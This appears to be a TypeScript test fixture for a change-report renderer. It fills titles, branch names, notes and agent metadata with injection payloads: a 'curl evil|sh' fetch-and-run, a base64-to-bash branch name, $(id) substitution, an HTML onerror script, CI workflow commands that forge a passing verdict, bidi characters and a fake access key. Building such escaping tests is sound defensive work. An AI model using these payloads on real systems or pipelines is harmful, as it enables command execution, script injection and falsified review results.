/** Every free text of a change tries to come alive: as Markdown, HTML, mention, reference, link, image, emoji, command or disguise. */
import {
  aChange,
  aCommitProvenance,
  aFile,
  aFinding,
  anEvidence,
  aReport,
  aResult,
  aRule,
  aVerdict,
  NO_LINES,
  unknownProvenance,
} from '../../support/builders.ts';

const path = 'src/</details>`a`|@acme/all\n::error::pwn\u202e.ts';
const evil =
  '</details><img src=x onerror=1> [x](http://evil.example) ![](//t.example/i.png) **@acme/everyone** fixes #2 :tada: `` ` ``';
const change = aChange({
  title: '# "; curl evil|sh # $\u007b{ secrets.X }} $(id) <!-- \u202e\u200b www.evil.example',
  branch: 'a";{echo,aGk=}|{base64,-d}|bash;"',
  files: [aFile(path, 2), aFile('`\u{e0041}`.png', 0, { content: { kind: 'binary' } })],
  notes: [`a note: ${evil}`],
});

export default aReport({
  change,
  provenance: unknownProvenance(change, {
    origin: 'agent',
    lines: { ...NO_LINES, agent: 2 },
    agents: [{ agent: '<b>@x</b>', model: evil, lines: 2, commits: 1 }],
    commits: [
      aCommitProvenance({
        origin: 'agent',
        agent: '<b>@x</b>',
        evidence: [
          anEvidence({
            agent: '<b>@x</b>',
            quote: `Co-Authored-By: ${evil}\n::set-output name=verdict::pass\n##[error]x`,
          }),
        ],
      }),
    ],
    notes: [evil],
  }),
  results: [
    aResult({
      because: evil,
      examined: 3,
      findings: [
        aFinding({
          path,
          message: `\`${evil}\` is declared nowhere, AKIAABCDEFGHIJKLMNOP`,
          help: '1. deadbeefcafe\n===\n- [ ] GH-3',
          reproduce: '```\n</details>\n````\n@x // \u2066 #1',
        }),
      ],
      notChecked: [{ why: evil, count: 2 }],
      verified: [{ what: `1 import: ${evil}`, limit: '$`x`$', spans: [{ path, from: 1, to: 2 }] }],
    }),
    aResult({ check: 'con|tracts', status: 'errored', because: evil }),
  ],
  verdict: aVerdict({
    conclusion: 'fail',
    headline: evil.slice(0, 140),
    policy: { source: '`x`</summary>@main', digest: '' },
    rules: [aRule({ rule: evil, status: 'violated', because: [evil], next: [{ who: '@acme/everyone', what: evil }] })],
  }),
});
